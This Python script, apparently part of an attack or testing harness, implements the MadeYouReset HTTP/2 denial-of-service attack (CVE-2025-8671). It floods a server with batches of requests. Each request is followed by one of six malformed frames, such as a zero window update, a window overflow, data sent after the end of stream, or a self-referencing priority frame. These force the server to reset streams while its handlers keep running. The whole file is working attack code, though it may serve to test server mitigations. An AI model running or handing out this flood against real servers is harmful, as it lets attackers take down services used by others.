#!/usr/bin/python3
"""MadeYouReset (CVE-2025-8671): whole requests, and behind each a frame that forces the *server* to reset the stream, while the
handler already works. Each way to force it in turn."""
from attacker import Peer, call, h2, headers, main

MARK = ("http2.flood_resets",)
ENDED = True
WAYS = {
    "window update of zero": lambda s: h2.frame(h2.WINDOW, 0, s, bytes(4)),
    "window overflow": lambda s: h2.frame(h2.WINDOW, 0, s, (2**31 - 1).to_bytes(4, "big")),
    "data behind the end": lambda s: h2.frame(h2.DATA, 0, s, b"more"),
    "headers behind the end": lambda s: headers(s),
    "priority on itself": lambda s: h2.frame(h2.PRIORITY, 0, s, s.to_bytes(4, "big") + b"\x10"),
    "priority of a wrong length": lambda s: h2.frame(h2.PRIORITY, 0, s, b"abc"),
}


def attack(run):
    turn = 0
    while run.going():
        force = list(WAYS.values())[turn % len(WAYS)]
        turn += 1
        peer, stream = Peer(run), 1
        while run.going():
            batch = b""
            for _ in range(50):
                batch += call(stream, b"x", busy_us=100) + force(stream)
                stream += 2
            if not peer.send(batch, 150):
                break
        peer.wait(2)
        peer.close()


if __name__ == "__main__":
    main(attack)
